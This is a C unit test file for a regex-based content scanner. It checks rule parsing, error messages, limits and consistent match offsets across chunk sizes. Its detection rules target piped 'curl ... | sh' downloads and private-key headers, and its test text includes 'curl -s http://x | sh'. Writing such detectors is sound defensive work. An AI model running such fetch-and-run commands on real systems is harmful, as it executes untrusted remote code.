/*
 * test_files.c — content rules: the NAME=REGEX parser (comments, CRLF,
 * every rejection with its line), compile errors naming the rule, and the
 * streaming search: the same first-match offsets whatever the chunk
 * sizes (a match split over chunks, one byte at a time), one report per
 * rule, no report for near misses, and a long single line searched
 * without holding it.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "files/internal.h"

struct hits {
	char rule[8][VG_FILES_MAX_NAME + 1];
	uint64_t off[8];
	size_t n;
};

static void on_match(void *ctx, const char *rule, uint64_t off)
{
	struct hits *h = ctx;
	if (h->n < 8) {
		snprintf(h->rule[h->n], sizeof h->rule[0], "%s", rule);
		h->off[h->n++] = off;
	}
}

static struct vg_content_rules *rules_of(const char *text)
{
	struct vg_content_rules *r = NULL;
	struct vg_error err = VG_ERROR_INIT;
	assert_int_equal(vg_content_rules_new(&r, &err), VG_OK);
	assert_int_equal(vg_content_rules_add_text(r, text, strlen(text), "cfg",
	                                           &err), VG_OK);
	assert_int_equal(vg_content_rules_compile(r, &err), VG_OK);
	return r;
}

static void expect_error(const char *text, enum vg_code code,
                         const char *needle)
{
	struct vg_content_rules *r = NULL;
	struct vg_error err = VG_ERROR_INIT;
	enum vg_code rc;
	assert_int_equal(vg_content_rules_new(&r, &err), VG_OK);
	rc = vg_content_rules_add_text(r, text, strlen(text), "cfg", &err);
	if (rc == VG_OK)
		rc = vg_content_rules_compile(r, &err);
	if (rc != code || !strstr(err.msg, needle))
		fail_msg("'%s': got %d '%s', want %d with '%s'", text, rc, err.msg,
		         code, needle);
	vg_content_rules_free(r);
}

static void test_parse(void **state)
{
	struct vg_content_rules *r;
	(void)state;
	r = rules_of("# comment\n\ncurl=curl[^|]*\\|\\s*sh\r\n"
	             "key.v2=BEGIN [A-Z]+ KEY\nlast=a=b");
	assert_int_equal(vg_content_rules_count(r), 3);
	assert_string_equal(r->v[0].name, "curl");
	assert_string_equal(r->v[0].regex, "curl[^|]*\\|\\s*sh");
	assert_string_equal(r->v[2].regex, "a=b"); /* first '=' splits */
	vg_content_rules_free(r);
}

static void test_parse_errors(void **state)
{
	char big[VG_FILES_MAX_REGEX + 16];
	(void)state;
	expect_error("ok=x\nnoequals\n", VG_EFORMAT, "cfg:2: expected NAME=REGEX");
	expect_error("=x\n", VG_EFORMAT, "cfg:1: expected NAME=REGEX");
	expect_error("bad name=x\n", VG_EFORMAT, "only letters");
	expect_error("a=\n", VG_EFORMAT, "empty regex");
	expect_error("a=x\na=y\n", VG_EFORMAT, "defined twice");
	expect_error("a=(\n", VG_EFORMAT, "content rule 'a'");
	expect_error("any=.*\n", VG_EFORMAT, "content rule 'any'");
	memset(big, 'x', sizeof big);
	memcpy(big, "a=", 2);
	big[sizeof big - 1] = '\0';
	expect_error(big, VG_ELIMIT, "longer than");
}

static void test_too_many(void **state)
{
	char *text = malloc((VG_FILES_MAX_RULES + 1) * 16);
	size_t i, n = 0;
	(void)state;
	assert_non_null(text);
	for (i = 0; i <= VG_FILES_MAX_RULES; i++)
		n += (size_t)sprintf(text + n, "r%zu=x%zu\n", i, i);
	expect_error(text, VG_ELIMIT, "more than 256");
	free(text);
}

static void test_nul_and_spec(void **state)
{
	struct vg_content_rules *r = NULL;
	struct vg_error err = VG_ERROR_INIT;
	(void)state;
	assert_int_equal(vg_content_rules_new(&r, &err), VG_OK);
	assert_int_equal(vg_content_rules_add_text(r, "a=x\0y\n", 6, "cfg", &err),
	                 VG_EFORMAT);
	assert_non_null(strstr(err.msg, "NUL"));
	assert_int_equal(vg_content_rules_add_spec(r, "a=x\nb=y", &err),
	                 VG_EFORMAT);
	assert_int_equal(vg_content_rules_add_spec(r, "ok=(?i)secret", &err),
	                 VG_OK);
	assert_int_equal(vg_content_rules_compile(r, &err), VG_OK);
	vg_content_rules_free(r);
}

/* Every chunk size finds the same first matches. */
static void test_chunks(void **state)
{
	static const char text[] =
		"line one\nsee: curl -s http://x | sh\nSECRET here and "
		"curl again | sh\n-----BEGIN RSA PRIVATE KEY-----\n";
	struct vg_content_rules *r = rules_of(
		"pipe=curl[^|\\n]*\\|\\s*sh\nkey=BEGIN [A-Z]+ PRIVATE KEY\n"
		"ci=(?i)secret\nnever=zzz+q\n");
	struct vg_error err = VG_ERROR_INIT;
	size_t chunk;
	(void)state;
	for (chunk = 0; chunk <= 9; chunk++) {
		struct hits h;
		memset(&h, 0, sizeof h);
		assert_int_equal(vg_content_rules_scan(r, text, sizeof text - 1,
		                                       chunk, on_match, &h, &err),
		                 VG_OK);
		assert_int_equal(h.n, 3);
		assert_string_equal(h.rule[0], "pipe");
		assert_int_equal(h.off[0], (uint64_t)(strstr(text, "curl") - text));
		assert_string_equal(h.rule[1], "key");
		assert_int_equal(h.off[1], (uint64_t)(strstr(text, "BEGIN") - text));
		assert_string_equal(h.rule[2], "ci");
		assert_int_equal(h.off[2], (uint64_t)(strstr(text, "SECRET") - text));
	}
	vg_content_rules_free(r);
}

/* 64 MiB of one line in 64 KiB chunks: found at the end, offset exact. */
static void test_long_line(void **state)
{
	struct vg_content_rules *r = rules_of("tail=needle-[0-9]{4}\n");
	struct vg_error err = VG_ERROR_INIT;
	struct content_scan cs;
	hs_scratch_t *scratch = NULL;
	static char block[64 << 10];
	size_t i, blocks = 1024;
	(void)state;
	memset(block, 'a', sizeof block);
	assert_int_equal(hs_clone_scratch(r->scratch, &scratch), HS_SUCCESS);
	assert_int_equal(content_scan_open(&cs, r, scratch, &err), VG_OK);
	for (i = 0; i < blocks; i++)
		assert_int_equal(content_scan_write(&cs, block, sizeof block, &err),
		                 VG_OK);
	assert_int_equal(content_scan_write(&cs, "needle-2026", 11, &err), VG_OK);
	assert_int_equal(content_scan_close(&cs, &err), VG_OK);
	assert_int_equal(cs.nmatched, 1);
	assert_int_equal(cs.first[0] - 1, (uint64_t)blocks * sizeof block);
	content_scan_release(&cs);
	hs_free_scratch(scratch);
	vg_content_rules_free(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_parse),
		cmocka_unit_test(test_parse_errors),
		cmocka_unit_test(test_too_many),
		cmocka_unit_test(test_nul_and_spec),
		cmocka_unit_test(test_chunks),
		cmocka_unit_test(test_long_line),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
